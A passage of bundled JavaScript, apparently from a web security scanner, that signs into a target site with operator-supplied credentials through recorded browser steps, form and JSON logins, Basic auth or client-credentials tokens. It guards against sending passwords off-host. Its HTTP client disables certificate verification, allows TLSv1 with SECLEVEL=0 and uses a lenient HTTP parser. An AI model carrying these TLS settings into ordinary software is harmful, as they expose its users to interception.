const blocked = [ ...browser.traffic.blocked ];
const why = blocked.length === 0 ? "" : `; it loads scripts of ${blocked.join(", ")}, which identity-provider does not name`;
throw new SignInError("sign_in_field_not_found", `${await placeNow(context, browser)} has no field for the user name or the password${why}`);
}
function notReached({context: context, browser: {traffic: traffic}, leftTo: leftTo}, start) {
const place = sign_in_context_placeOf(context, start);
if (traffic.fault !== null) return new SignInError("sign_in_provider_unreachable", traffic.fault.replace(/\.$/, ""));
if (leftTo !== null) return leftFor(context, place, leftTo);
const named = providersOf(context).join(", ");
return new SignInError("sign_in_page_not_found", `no link or button of ${place} that is named as a sign-in leads to ${named}; give the path that redirects there in login as url, or record the sign-in`);
}
async function requireReturn(context, browser) {
const {leak: leak, leftTo: leftTo, fault: fault} = browser.traffic;
const place = await placeNow(context, browser);
if (leak !== null) throw new SignInError("sign_in_off_host", `${place} sends the password to ${leak}, another origin`);
const origin = await browser.origin();
if (origin === context.target.origin) return;
if (leftTo !== null) throw leftFor(context, "the sign-in", leftTo);
if (fault !== null) throw new SignInError("sign_in_provider_unreachable", fault.replace(/\.$/, ""));
if (!providersOf(context).includes(origin)) throw new SignInError("sign_in_unproven", "the sign-in ended on a page that did not load");
const seen = await look(browser, true);
if (seen !== null && seen.step.kind !== "username") throw fill_forms_refusal(context, seen, login_form_kindOf(seen.step));
const titles = ((await browser.look())?.titles ?? []).map(text => text.trim()).filter(text => text !== "");
const shown = [ ...new Set(titles) ].slice(0, 2).join(": ").slice(0, 100);
throw new SignInError("sign_in_provider_page", `${place} shows "${shown}" after the credentials`);
}
async function placeNow(context, browser) {
const view = await browser.look();
return view === null || URL.parse(view.url) === null ? "the page" : sign_in_context_placeOf(context, view.url);
}
async function replayRecording(context) {
const recording = (0, contract_recording.f)(context.login.recording ?? "");
if ("fault" in recording) throw failed("the recording", recording.fault);
const named = recording.steps.map((step, index) => ({
step: step,
name: (0, contract_recording.u)(index, step)
}));
for (const {step: step, name: name} of named) if (step.type === "navigate") replay_recording_addressOf(context, name, step.url);
const entered = await inBrowser(context, async browser => {
if (named.find(({step: step}) => step.type !== "setViewport")?.step.type !== "navigate") await browser.open(context.target.startUrl, true);
let hasNavigated = browser.replay.watch();
for (const {step: step, name: name} of named) {
const isChecked = await playChecked({
context: context,
browser: browser,
recording: recording,
name: name
}, step, hasNavigated);
if (isChecked) hasNavigated = browser.replay.watch();
}
const seen = await look(browser);
if (seen !== null && login_form_kindOf(seen.step) === "password") throw fill_forms_refusal(context, seen, "password");
await requireReturn(context, browser);
return takeSession(context, browser);
});
return entered ?? withoutBrowser("a recording");
}
async function playChecked(played, step, hasNavigated) {
const {context: context, browser: browser, recording: recording, name: name} = played;
await play(played, step);
if (browser.traffic.isInUrl) throw failed(name, "would send the password in a URL");
refuse(context, browser, null);
if ((step.assertedEvents ?? []).length === 0) return false;
if (!await hasNavigated(step.timeout ?? recording.timeout)) throw await stepFailed(played, "was recorded with a navigation, and none followed");
refuse(context, browser, null);
return true;
}
async function play(played, step) {
const {context: context, browser: browser, name: name} = played;
const {replay: replay} = browser;
switch (step.type) {
case "setViewport":
return replay.resize(step.width, step.height);

case "navigate":
return browser.open(replay_recording_addressOf(context, name, step.url), true);

case "keyDown":
case "keyUp":
return replay.key(step.type, step.key);

case "scroll":
return;

case "waitForElement":
await elementOf(played, step);
return;

case "change":
return enter(played, await elementOf(played, step), step.value);

default:
return point(played, await elementOf(played, step), step);
}
}
async function elementOf(played, step) {
const found = await played.browser.replay.find(step, played.recording);
if (found !== null) return found;
const [first = ""] = (step.selectors ?? []).flat();
const what = step.type === "waitForElement" ? "did not find what it waits for" : "found none of its selectors";
throw await stepFailed(played, `${what}, such as ${first.slice(0, 60)}`);
}
async function enter(played, element, value) {
const isLiteral = value.search(contract_recording.Kx) === -1;
if (isLiteral && await element.isSecret()) throw failed(played.name, "types a literal text into a password field; write {{password}} or {{code}} in its place");
const {login: login} = played.context;
const values = {
username: () => login.username ?? "",
password: () => login.password ?? "",
code: () => codeOf(played.context)
};
const text = value.replace(contract_recording.Kx, (_match, name) => values[name]());
if (!await element.enter(text)) throw await stepFailed(played, "found an element that does not take the value");
}
async function point(played, element, step) {
const clicks = {
click: 1,
doubleClick: 2,
hover: 0
}[step.type];
const {offsetX: x, offsetY: y, button: button = "primary"} = step.type === "hover" ? {} : step;
const offset = x === undefined || y === undefined ? null : {
x: x,
y: y
};
if (!await element.point(clicks, offset, button)) throw await stepFailed(played, "found an element that is not shown");
}
function replay_recording_addressOf(context, name, reference) {
const {target: target} = context;
const url = URL.parse(reference, target.startUrl);
if (url !== null && [ target.origin, ...providersOf(context) ].includes(url.origin)) return url.href;
throw failed(name, `leads to ${url?.origin.slice(0, 100)}, which is neither the target nor in identity-provider; if it is the application, write the path only`);
}
async function stepFailed({context: context, browser: browser, name: name}, what) {
const {leftTo: leftTo} = browser.traffic;
const left = leftTo === null ? "" : `; it had led to ${leftTo}, another origin`;
return failed(name, `${what} on ${await placeNow(context, browser)}${left}`);
}
function failed(name, what) {
return new SignInError("sign_in_recording_failed", `${name} ${what}`);
}
const REFUSALS_MAX = 2;
const SHOWING_MAX = 3;
async function submitDescribed(context, url) {
const {signIns: signIns, carriers: carriers, proofs: proofs} = await context.describe();
const tried = [];
let refusals = 0;
for (const signIn of signIns.filter(one => url === null || one.url === url)) {
const result = await submit_described_send(context, signIn, carriers);
if (result.kind === "signed-in") {
if (result.token !== null) await carry(context, result.token, carriers, proofs);
return {
isSignedIn: true,
tried: tried,
isRefused: false,
read: proofs
};
}
tried.push(`${signIn.id} ${result.detail} to ${signIn.properties.join(", ")}`);
if (result.kind === "refused") refusals += 1;
if (refusals >= REFUSALS_MAX) break;
}
return {
isSignedIn: false,
tried: tried,
isRefused: refusals > 0,
read: []
};
}
async function describedAfter(context, failure, url) {
if (!(failure instanceof SignInError) || !LEADS_NOWHERE.has(failure.code)) throw failure;
const described = await submitDescribed(context, url);
return described.isSignedIn ? described : failedAs(described, failure);
}
function failedAs({tried: tried, isRefused: isRefused}, failure) {
if (tried.length === 0) throw failure;
if (isRefused) throw new SignInError("sign_in_denied", tried.join("; "));
throw new SignInError("sign_in_field_not_found", `${tried.join("; ")}; ${failure.message}`);
}
const LEADS_NOWHERE = new Set([ "sign_in_page_not_found", "sign_in_field_not_found", "sign_in_scripted" ]);
async function submit_described_send(context, signIn, carriers) {
const {credentials: credentials, identity: identity, login: login, target: target} = context;
const {username: username = "", password: password = ""} = login;
const before = credentials.cookies.values();
const body = signIn.body(username, password);
const isJson = signIn.encoding === "json";
const fields = Object.entries(body).map(([name, value]) => [ name, String(value) ]);
const attempt = await context.fetch({
method: "POST",
url: signIn.url,
identity: identity,
fresh: true,
headers: [ [ "Content-Type", isJson ? "application/json" : "application/x-www-form-urlencoded" ], [ "Accept", "application/json" ], [ "Origin", target.origin ] ],
body: isJson ? JSON.stringify(body) : new URLSearchParams(fields).toString()
});
if (!(0, http.m_)(attempt)) return {
kind: "absent",
detail: "did not respond"
};
const {status: status, headers: headers, text: text} = attempt.response;
const value = jsonOf(text);
const detail = `responds with ${status}`;
if (status === 404 || status === 405 || status === 501) return {
kind: "absent",
detail: detail
};
if (token_in_isUnread(status, value)) return {
kind: "unread",
detail: detail
};
context.attempts.passwords += 1;
const isRefusal = status >= 400 || saysRefused(value);
const token = isRefusal ? null : signIn.tokenOf(value) ?? tokenIn(value) ?? tokenInHeaders(headers, carriers);
if (token === null && !isRefusal && asksForCode(value)) throw new SignInError("sign_in_code_required", `${sign_in_context_pathOf(signIn.url)} asks for a second factor`);
if (isRefusal) return {
kind: "refused",
detail: detail
};
const hasNewCookie = credentials.cookies.values().some(cookie => !before.includes(cookie));
if (token === null && !hasNewCookie) return {
kind: "absent",
detail: `${detail} without a token or a cookie`
};
return {
kind: "signed-in",
token: token
};
}
async function carry({credentials: credentials, fetch: fetch, identity: identity}, token, carriers, proofs) {
for (const {header: header, prefix: prefix} of carriers) {
credentials.carry(header, `${prefix}${token}`);
if (carriers.length === 1) return;
for (const url of proofs.slice(0, SHOWING_MAX)) {
const attempt = await fetch({
url: url,
identity: identity,
fresh: true
});
if ((0, http.m_)(attempt) && attempt.response.status < 300) return;
}
}
const [first] = carriers;
if (first !== undefined) credentials.carry(first.header, `${first.prefix}${token}`);
}
const submit_in_browser_PLACES_MAX = 6;
async function submitInBrowser(context, url) {
const {credentials: credentials} = context;
let isFilled = false;
const entered = await inBrowser(context, async browser => {
const first = await findForm(browser, url);
if (first === null) return null;
isFilled = true;
const before = new Set(credentials.cookies.values());
const isNew = () => credentials.cookies.values().some(value => !before.has(value));
await submitSteps(context, browser, first, isNew);
return takeSession(context, browser);
});
if (entered === null && isFilled) throw new SignInError("sign_in_scripted", `the browser ended during the sign-in at ${sign_in_context_pathOf(url)}`);
return entered;
}
async function findForm(browser, url) {
const first = await openForm(browser, url);
if (first !== null) return first;
const {urls: urls} = await browser.leads();
for (const href of urls.filter(one => one !== url).slice(0, submit_in_browser_PLACES_MAX)) {
const seen = await openForm(browser, href);
if (seen !== null) return seen;
}
if (urls.length > 0) await browser.open(url);
const {buttons: buttons} = await browser.leads();
for (const button of buttons) {
await browser.press(button);
const seen = await look(browser);
if (seen !== null) return seen;
}
return null;
}
async function openForm(browser, url) {
await browser.open(url);
const seen = await look(browser);
if (seen === null || !browser.traffic.isWithheld) return seen;
await browser.open(url, true);
return look(browser);
}
const missing_fields_FIELDS_MAX = 10;
const missing_fields_DEPTH_MAX = 4;
const missing_fields_NAME = /^[A-Za-z_][\w-]{0,99}$/;
function missingFields(value) {
const {detail: detail, errors: errors} = missing_fields_membersOf(value);
const paths = [ ...Array.isArray(detail) ? detail.flatMap(pathOfDetail) : [], ...pathsOfErrors(errors) ];
const usable = paths.filter(path => path.length > 0 && path.length <= missing_fields_DEPTH_MAX && path.every(isSafeName));
return usable.slice(0, missing_fields_FIELDS_MAX);
}
function bodyWith(missing, {username: username = "", password: password = ""}) {
const names = username.includes("@") ? [ "email" ] : [ "username" ];
const both = Object.fromEntries([ ...names.map(name => [ name, username ]), [ "password", password ] ]);
let body = {};
for (const path of missing) {
const name = path.at(-1) ?? "";
if ((0, data_names.cP)("password", name)) body = placed(body, path, password); else if (missing.length === 1 && (0, 
data_names.cP)("credentials-member", name)) body = placed(body, path, both); else if ((0, 
data_names.cP)("user-label", name)) body = placed(body, path, username); else return null;
}
return Object.keys(body).length === 0 ? null : body;
}
function placed(body, [first = "", ...rest], value) {
if (rest.length === 0) return {
...body,
[first]: value
};
const inner = body[first];
return {
...body,
[first]: placed(typeof inner === "object" ? inner : {}, rest, value)
};
}
function pathOfDetail(entry) {
const {loc: loc, type: type, msg: msg} = missing_fields_membersOf(entry);
if (!Array.isArray(loc) || !(0, data_names.cP)("missing-value", `${String(type)} ${String(msg)}`.slice(0, 300))) return [];
return [ loc.map(String).filter((part, index) => index > 0 || part !== "body") ];
}
function pathsOfErrors(errors) {
if (Array.isArray(errors)) return [];
return Object.entries(missing_fields_membersOf(errors)).flatMap(([name, texts]) => (0, 
data_names.cP)("missing-value", JSON.stringify(texts).slice(0, 300)) ? [ name.split(".") ] : []);
}
function isSafeName(name) {
return missing_fields_NAME.test(name) && name !== "__proto__";
}
function missing_fields_membersOf(value) {
return (0, shared_records.u4)(value) ? value : {};
}
const submit_json_REFUSALS_MAX = 2;
const submit_json_NESTED_MAX = 2;
async function submitJson(context, page, endpoint) {
const scripts = endpoint === null ? await scriptsOf(context, page) : [];
const urls = endpoint === null ? signInEndpoints(scripts).map(path => new URL(path, context.target.origin).href) : [ endpoint ];
const refusals = [];
for (const url of urls) if (await tryBodies(context, page, {
scripts: scripts,
url: url
}, refusals)) return;
if (hasCaptcha(page)) throw new SignInError("sign_in_captcha", `${sign_in_context_pathOf(page.request.url)} asks for a captcha`);
throw refusalOf(refusals) ?? new SignInError("sign_in_scripted", `${sign_in_context_pathOf(page.request.url)} is rendered by scripts`);
}
function refusalOf(refusals) {
const [first] = refusals;
if (first === undefined) return null;
const denied = refusals.find(({isUnread: isUnread}) => !isUnread);
if (denied !== undefined) return new SignInError("sign_in_denied", denied.text);
return new SignInError("sign_in_field_not_found", `${first.text}: it takes other fields, or refuses these values`);
}
async function tryBodies(context, page, {scripts: scripts, url: url}, refusals) {
for (const body of bodies(context, page, scripts, url)) {
let result = await sendEither(context, page, url, body);
const asked = result.kind === "refused" ? result.lacks : [];
if (asked.length > 0) result = await sendAsked(context, page, url, result);
if (result.kind === "signed-in") return true;
if (result.kind === "absent") return false;
const names = Object.keys(body).join(" and ");
const how = result.isUnread ? `${names} as JSON and as a form` : "the credentials";
refusals.push({
isUnread: result.isUnread,
text: `${sign_in_context_pathOf(url)} responds with ${result.status} to ${how}`
});
if (refusals.length >= submit_json_REFUSALS_MAX || asked.length > 0) throw refusalOf(refusals);
}
return false;
}
async function sendAsked(context, page, url, first) {
let result = first;
for (let round = 0; round < submit_json_NESTED_MAX && result.kind === "refused" && result.lacks.length > 0; round += 1) {
const body = bodyWith(result.lacks, context.login);
if (body === null) break;
result = await submit_json_send(context, page, url, body, "json");
}
return result;
}
async function sendEither(context, page, url, body) {
const result = await submit_json_send(context, page, url, body, "json");
if (result.kind !== "refused" || !result.isUnread) return result;
if (result.lacks.length > 0 && !result.lacks.some(([name = ""]) => name in body)) return result;
const asForm = await submit_json_send(context, page, url, {
grant_type: "password",
...body
}, "form");
return asForm.kind === "absent" || asForm.kind === "refused" && asForm.isUnread ? result : asForm;
}
async function submit_json_send(context, page, url, body, encoding) {
const {credentials: credentials, identity: identity} = context;
const before = credentials.cookies.values();
const attempt = await context.fetch({
method: "POST",
url: url,
identity: identity,
fresh: true,
headers: [ [ "Content-Type", encoding === "json" ? "application/json" : "application/x-www-form-urlencoded" ], [ "Accept", "application/json" ], [ "Origin", context.target.origin ], [ "Referer", page.request.url ], ...csrfHeaders(page, credentials) ],
body: encoding === "json" ? JSON.stringify(body) : new URLSearchParams(body).toString()
});
return (0, http.m_)(attempt) ? submit_json_resultOf(context, url, attempt, before) : {
kind: "absent"
};
}
function submit_json_resultOf(context, url, {response: response}, before) {
const {credentials: credentials} = context;
const {status: status, text: text, headers: headers} = response;
const value = jsonOf(text);
if (isNoInterface(response)) return {
kind: "absent"
};
const isUnread = token_in_isUnread(status, value);
if (!isUnread) context.attempts.passwords += 1;
const token = tokenIn(value) ?? (status < 300 ? tokenInHeaders(headers) : null);
if (token === null && asksForCode(value) && !saysRefused(value)) throw new SignInError("sign_in_code_required", `${sign_in_context_pathOf(url)} asks for a second factor`);
const refused = {
kind: "refused",
status: statusOf(status, value),
isUnread: isUnread
};
if (status >= 400 || saysRefused(value)) return {
...refused,
lacks: status === 400 || status === 422 ? missingFields(value) : []
};
if (token !== null) {
credentials.authorization = `Bearer ${token}`;
return {
kind: "signed-in"
};
}
if (credentials.cookies.values().some(cookie => !before.includes(cookie))) return {
kind: "signed-in"
};
return status < 300 ? {
kind: "absent"
} : {
...refused,
lacks: []
};
}
function isNoInterface({status: status, text: text}) {
return [ 404, 405, 501 ].includes(status) || status < 300 && /^\s*</.test(text.slice(0, 200));
}
function statusOf(status, value) {
const code = (0, shared_records.u4)(value) ? value["code"] : undefined;
return /^\d{3,6}$/.test(String(code)) && String(code) !== String(status) ? `${status} (code ${code})` : String(status);
}
function bodies({login: login}, page, scripts, url) {
const {username: username = "", password: password = ""} = login;
const step = loginStep(page);
const passwordName = step?.kind === "credentials" && step.password.name !== "" ? step.password.name : "password";
const fieldName = step?.kind === "credentials" ? step.username.name : "";
const names = [ ...fieldName === "" ? [] : [ fieldName ], ...userNames(scripts, new URL(url).pathname, username) ];
return [ ...new Set(names) ].slice(0, 2).map(name => ({
[name]: username,
[passwordName]: password
}));
}
const sign_in_PAGES_MAX = 4;
async function signIn(context) {
const method = (0, login_method.N)(context.login);
if ("fault" in method) throw new SignInError("sign_in_denied", `the login ${method.fault}`);
if (method.method === "recording") return proveEntered(context, await replayRecording(context));
if (method.method === "password") return providersOf(context).length === 0 ? signInWithPassword(context) : proveEntered(context, await submitAtProvider(context));
if (method.method === "client-credentials") await requestToken(context); else {
const token = tokenInStorage(context.login.local_storage ?? {});
if (token !== null) context.credentials.authorization = `Bearer ${token}`;
}
return proveSession(context, null);
}
async function signInWithPassword(context) {
const failures = [];
const places = [];
try {
for await (const found of loginPages(context)) {
places.push(sign_in_context_pathOf(found.page.request.url));
const entered = await tryPage(context, found);
if (!(entered instanceof SignInError)) return entered;
failures.push(entered);
if (failures.length >= sign_in_PAGES_MAX) break;
}
} catch (error) {
if (failures.length > 0 || !isMissing(error)) throw error;
return proveEntered(context, await enterWithoutPage(context, error));
}
const [first] = failures;
if (first === undefined) throw new SignInError("sign_in_page_not_found", "no page of a sign-in was found");
const others = places.slice(1);
const failure = others.length === 0 ? first : new SignInError(first.code, `${first.message}; tried next: ${others.join(", ")}`);
return proveEntered(context, await describedAfter(context, failure, givenAddress(context)));
}
async function tryPage(context, found) {
try {
return await sign_in_enter(context, found);
} catch (error) {
if (!sign_in_isUnsent(context, error)) throw error;
return error;
}
}
function isMissing(error) {
if (!(error instanceof SignInError)) return false;
return error.code === "sign_in_page_not_found" || error.code === "sign_in_field_not_found";
}
async function enterWithoutPage(context, failure) {
const described = await submitDescribed(context, givenAddress(context));
if (described.isSignedIn) return described;
const entered = await submitInBrowser(context, sign_in_addressOf(context, context.target.startUrl));
return entered ?? failedAs(described, failure);
}
function proveEntered(context, {read: read}) {
return proveSession({
...context,
known: [ ...context.known, ...read ]
}, null);
}
function givenAddress(context) {
return context.login.url === undefined ? null : sign_in_addressOf(context, context.login.url);
}
function sign_in_isUnsent({attempts: attempts}, error) {
if (!(error instanceof SignInError) || attempts.passwords > 0) return false;
return error.code === "sign_in_scripted" || error.code === "sign_in_field_not_found";
}
async function sign_in_enter(context, found) {
const {page: page} = found;
const {last: last, read: read} = await submitAt(context, found);
try {
return await proveSession({
...context,
known: [ ...context.known, ...read ]
}, last);
} catch (error) {
const isUnproven = error instanceof SignInError && error.code === "sign_in_unproven";
if (isUnproven && context.check === undefined && hasCaptcha(page)) throw new SignInError("sign_in_captcha", `${sign_in_context_pathOf(page.request.url)} asks for a captcha`);
throw error;
}
}
async function submitAt(context, found) {
const {kind: kind, page: page} = found;
if (kind === "basic") return {
last: await enterBasic(context, page),
read: []
};
if (kind === "interface") return {
last: null,
read: await submitInterface(context, page)
};
const isFirst = isForBrowser(context, found);
const entered = isFirst ? await submitInBrowser(context, sign_in_addressOf(context, page.request.url)) : null;
if (entered !== null) return {
last: null,
read: entered.read
};
const last = loginStep(page, true) === null ? null : await submitLogin(context, page);
return {
last: last,
read: last === null ? (await submitScripted(context, page)).read : []
};
}
function isForBrowser({isQuick: isQuick}, {kind: kind, page: page}) {
if (isQuick) return false;
const step = loginStep(page, true);
if (kind === "scripted") return step !== null;
const hasScripts = ((0, html_document.lM)(page)?.scripts.length ?? 0) > 0;
return hasScripts && (step?.form.fields.some(isFilledByScript) ?? false);
}
function isFilledByScript({type: type, name: name, value: value}) {
return type === "hidden" && name !== "" && value === "" && !(0, data_names.cP)("redirect", name);
}
async function enterBasic(context, page) {
const {username: username = "", password: password = ""} = context.login;
context.credentials.authorization = `Basic ${Buffer.from(`${username}:${password}`).toString("base64")}`;
context.attempts.passwords += 1;
const after = await visit(context, {
url: page.request.url
});
if (after === null || asksForBasic(after.page)) throw new SignInError("sign_in_denied", `${sign_in_context_pathOf(page.request.url)} responds with 401 to the credentials`);
return after.page;
}
async function submitScripted(context, page) {
const submit = () => submitInBrowser(context, sign_in_addressOf(context, page.request.url));
const entered = context.isQuick ? null : await submit();
if (entered !== null) return entered;
try {
await submitJson(context, page, null);
return {
read: []
};
} catch (error) {
const isUnknown = error instanceof SignInError && error.code === "sign_in_scripted";
const late = context.isQuick && isUnknown ? await submit() : null;
if (late === null) throw error;
return late;
}
}
async function submitInterface(context, page) {
const {url: url} = page.request;
try {
await submitJson(context, page, url);
return [];
} catch (error) {
return (await describedAfter(context, error, url)).read;
}
}
function sign_in_addressOf(context, found) {
const {url: url} = context.login;
return (url === undefined ? null : onTarget(context, url)) ?? found;
}
async function requestToken(context) {
const {client_id: id = "", client_secret: secret = "", token_url: reference = "", scope: scope} = context.login;
const url = onTarget(context, reference);
if (url === null) throw new SignInError("sign_in_off_host", "the token-url of the login is not on the host, scheme and port of the target");
const grant = {
grant_type: "client_credentials",
...scope === undefined ? {} : {
scope: scope
}
};
const basic = Buffer.from(`${encodeURIComponent(id)}:${encodeURIComponent(secret)}`).toString("base64");
const ask = (more, headers) => context.fetch({
method: "POST",
url: url,
identity: context.identity,
fresh: true,
headers: [ [ "Content-Type", "application/x-www-form-urlencoded" ], [ "Accept", "application/json" ], ...headers ],
body: new URLSearchParams({
...grant,
...more
}).toString()
});
const attempt = await ask({}, [ [ "Authorization", `Basic ${basic}` ] ]);
const token = (0, http.m_)(attempt) ? tokenIn(jsonOf(attempt.response.text)) : null;
const again = token === null ? await ask({
client_id: id,
client_secret: secret
}, []) : attempt;
const value = token ?? ((0, http.m_)(again) ? tokenIn(jsonOf(again.response.text)) : null);
if (value === null) {
const what = (0, http.m_)(again) ? `responds with ${again.response.status} and no token` : "did not respond";
throw new SignInError("sign_in_denied", `${sign_in_context_pathOf(url)} ${what}`);
}
context.credentials.authorization = `Bearer ${value}`;
}
async function signInAll(all) {
const {options: options, transport: transport} = all;
const given = contract_login.A$.flatMap(name => {
const login = options[contract_login.RT[name]];
return login === undefined ? [] : [ {
name: name,
login: login
} ];
});
const issued = [];
let described = null;
const describe = () => {
described ??= all.describe?.({
...all,
fetch: request => transport.fetch(request)
}) ?? Promise.resolve(UNDESCRIBED);
return described;
};
const known = new Set;
const start = async (name, login) => {
const begun = await sign_in_all_begin({
...all,
describe: describe
}, name, login, issued, [ ...known ]);
if (begun.proof.by === "refused") known.add(begun.proof.url);
return begun;
};
const signedIn = new Map;
let failure = null;
for (const {name: name, login: login} of given) {
try {
if (all.withhold) throw new SignInError("sign_in_off_host", "the target was given as https, but speaks plain HTTP on its port");
signedIn.set(name, await start(name, login));
} catch (error) {
if (!(error instanceof SignInError)) throw error;
transport.drop(name);
failure ??= sign_in_all_named(name, cleaned(error, login));
}
}
const user = signedIn.get("user");
const ofUser = () => issued.findLast(({identity: identity}) => identity === "user")?.credentials;
const others = [ ...signedIn ].filter(([name]) => name !== "user");
const trials = [];
const keeper = user === undefined ? null : new SessionKeeper({
...user,
renew: async () => {
const {login: login} = user.context;
const again = await start("user", login).catch(error => {
throw error instanceof SignInError ? cleaned(error, login) : error;
});
return again.proof;
}
});
return {
names: [ ...signedIn.keys() ],
isAsked: given.length > 0,
failure: failure,
fetch: request => keeper?.fetch(request) ?? transport.fetch(request),
token: () => {
const headers = signedIn.has("user") ? ofUser()?.headersFor(all.target.startUrl) ?? [] : [];
return sessionTokenIn([ ...headers, ...all.withhold ? [] : Object.entries(options.request_headers ?? {}) ]);
},
pageStorage: () => signedIn.has("user") ? ofUser()?.storage ?? null : null,
trySession: user === undefined || keeper === null || !isByPassword(user.context.login) ? null : () => tryOwn(user, keeper, trials),
end: async () => {
if (failure !== null) return failure;
const loss = await (keeper?.end()) ?? null;
if (loss !== null) return loss;
for (const [name, {context: context, proof: proof}] of others) if (await isValid(context, proof) === false) return sign_in_all_named(name, new SignInError("sign_in_lost", "the session was no longer valid at the end of the scan"));
return null;
},
secrets: () => [ ...issued.flatMap(({identity: identity, credentials: credentials}) => (0, 
secret_values.Fe)(identity, credentials.secrets())), ...trials.flatMap(credentials => (0, 
secret_values.Fe)("user", credentials.secrets())) ]
};
}
function isByPassword(login) {
const method = (0, login_method.N)(login);
return "method" in method && method.method === "password" && login.totp === undefined && !login.identity_provider;
}
function tryOwn({context: context, proof: proof}, keeper, trials) {
const {target: target, login: login, now: now} = context;
const credentials = new SessionCredentials(target.host, login, () => now().getTime());
trials.push(credentials);
const own = {
...context,
credentials: credentials,
attempts: {
passwords: 0
}
};
return own_session_trySession({
own: {
...own,
fetch: fetchAs(own)
},
proof: proof,
isScanAlive: async () => await isValid(context, proof) !== false,
restore: () => keeper.restore()
});
}
const UNDESCRIBED = {
signIns: [],
carriers: [],
proofs: []
};
async function sign_in_all_begin({target: target, options: options, transport: transport, fetchProvider: fetchProvider, useBrowser: useBrowser, isQuick: isQuick, now: now, describe: describe}, identity, login, issued, known) {
const credentials = new SessionCredentials(target.host, login, () => now().getTime());
issued.push({
identity: identity,
credentials: credentials
});
transport.assume(identity, credentials);
const context = {
target: target,
identity: identity,
login: login,
check: options.login_check,
known: known,
credentials: credentials,
useBrowser: useBrowser,
isQuick: isQuick,
attempts: {
passwords: 0
},
options: options,
fetch: request => transport.fetch(request),
fetchProvider: fetchProvider,
describe: describe,
now: now
};
return {
context: context,
proof: await signIn(context)
};
}
function cleaned({code: code, message: message}, login) {
return new SignInError(code, new secret_masker.M((0, secret_values.sm)((0, secret_values.ob)(login))).mask(message));
}
function sign_in_all_named(name, {code: code, message: message}) {
return name === "user" ? new SignInError(code, message) : new SignInError(code, `${contract_login.RT[name].replace("_", "-")}: ${message}`);
}
var local_names = __webpack_require__(89394);
function targetInfo(address, {port: port, scheme: scheme}, options) {
const isDefaultPort = port === (scheme === "https" ? 443 : 80);
const origin = `${scheme}://${(0, target_address.V8)(address.host, isDefaultPort ? null : port)}`;
const isLocal = (0, local_names.mJ)(address.host);
return {
host: address.host,
port: port,
scheme: scheme,
origin: origin,
startUrl: new URL(options.start_path ?? address.path ?? "/", `${origin}/`).href,
isIpAddress: address.isIpAddress,
isLocal: isLocal,
isLoopback: (0, local_names.cW)(address.host),
registrableDomain: isLocal || address.isIpAddress ? null : (0, cjs.FB)(address.host, {
allowPrivateDomains: true
})
};
}
var package_0 = __webpack_require__(8330);
var library_advisories = __webpack_require__(50220);
const ENGINE_TOOL = {
name: package_0.UU,
version: package_0.rE,
advisories_date: library_advisories.ni,
libraries_date: library_fingerprints.x
};
var contract_signature = __webpack_require__(46697);
var signature_header = __webpack_require__(64715);
var callback_url = __webpack_require__(90969);
var external_node_http_ = __webpack_require__(37067);
var external_node_https_ = __webpack_require__(44708);
var decode_body = __webpack_require__(85873);
const recorded_response_FIELDS_MAX = 1e3;
const recorded_response_NAME_MAX = 256;
const recorded_response_VALUE_MAX = 16384;
function boundedHeaders(headers) {
const kept = headers.slice(0, recorded_response_FIELDS_MAX);
const cut = kept.filter(([, value]) => value.length > recorded_response_VALUE_MAX).map(([name]) => name.slice(0, recorded_response_NAME_MAX).toLowerCase());
return {
headers: kept.map(([name, value]) => [ name.slice(0, recorded_response_NAME_MAX), value.slice(0, recorded_response_VALUE_MAX) ]),
...cut.length === 0 ? {} : {
cutHeaders: [ ...new Set(cut) ]
}
};
}
const KEPT_TEXT_MAX = 16384;
function recordedResponse(parts) {
let kept;
const bounded = boundedHeaders(parts.headers);
let released;
return {
...parts,
...bounded,
get text() {
const known = kept ?? released?.deref()?.text;
if (known !== undefined) return known;
const text = decodeText(parts.body, (0, http.wx)(bounded.headers, "content-type") ?? "");
if (parts.body.length <= KEPT_TEXT_MAX) kept = text; else released = new WeakRef({
text: text
});
return text;
}
};
}
function decodeText(body, contentType) {
if (body[0] === 254 && body[1] === 255) return new TextDecoder("utf-16be").decode(body);
if (body[0] === 255 && body[1] === 254) return new TextDecoder("utf-16le").decode(body);
const charset = /;\s*charset\s*=\s*"?([^\s;"]{1,40})/i.exec(contentType)?.[1] ?? "utf-8";
try {
return new TextDecoder(charset).decode(body);
} catch {
return new TextDecoder("utf-8").decode(body);
}
}
const HEADER_FIELDS_MAX = 1e3;
const TLS_OPTIONS = {
rejectUnauthorized: false,
minVersion: "TLSv1",
ciphers: "TLS_AES_256_GCM_SHA384:TLS_CHACHA20_POLY1305_SHA256:TLS_AES_128_GCM_SHA256:ALL:COMPLEMENTOFALL:@SECLEVEL=0",
secureOptions: external_node_crypto_.constants.SSL_OP_LEGACY_SERVER_CONNECT,
ALPNProtocols: [ "http/1.1" ]
};
class HttpClient {
#options;
#plain;
#secure;
constructor(options) {
this.#options = options;
const shared = {
keepAlive: true,
maxFreeSockets: options.idleSockets
};
this.#plain = new external_node_http_.Agent(shared);
this.#secure = new external_node_https_.Agent({
...shared,
...options.roots === undefined ? TLS_OPTIONS : {
ca: [ ...(0, external_node_tls_.getCACertificates)("default"), ...options.roots ]
},
servername: (0, external_node_net_.isIP)(options.host) === 0 ? options.host : ""
});
}
close() {
this.#plain.destroy();
this.#secure.destroy();
}
async send(request) {
const first = await this.#attempt(request);
return first.retry ? (await this.#attempt(request)).result : first.result;
}
async #attempt(request) {
const transport = request.scheme === "https" ? external_node_https_ : external_node_http_;
let outgoing;
try {
outgoing = transport.request({
host: this.#options.address,
port: request.port,
method: request.method,
path: request.path,
headers: request.headers.flat(),
agent: request.scheme === "https" ? this.#secure : this.#plain,
insecureHTTPParser: true,
maxHeaderSize: user_agent.uD
});
} catch (error) {
return {
result: {
failure: failureOf(error),
timing: {
connectMs: null,
responseMs: null
}
},
retry: false
};
}
outgoing.maxHeadersCount = HEADER_FIELDS_MAX;
const timing = measure(outgoing);
const head = await this.#head(outgoing, request);
if ("failure" in head) {
outgoing.destroy();
const retry = outgoing.reusedSocket && head.failure.code === "reset" && !request.signal.aborted;
return {
result: {
...head,
timing: timing()
},
retry: retry
};
}
const times = timing();
if (request.body !== undefined && (head.incoming.statusCode ?? 0) >= 400) outgoing.shouldKeepAlive = false;
const {chunks: chunks, cut: cut} = await this.#body(head.incoming, request);
const headers = pairs(head.incoming.rawHeaders);
const decoded = await (0, decode_body.V)(Buffer.concat(chunks), (0, http.wx)(headers, "content-encoding") ?? "", request.maxBytes);
const response = recordedResponse({
status: head.incoming.statusCode ?? 0,
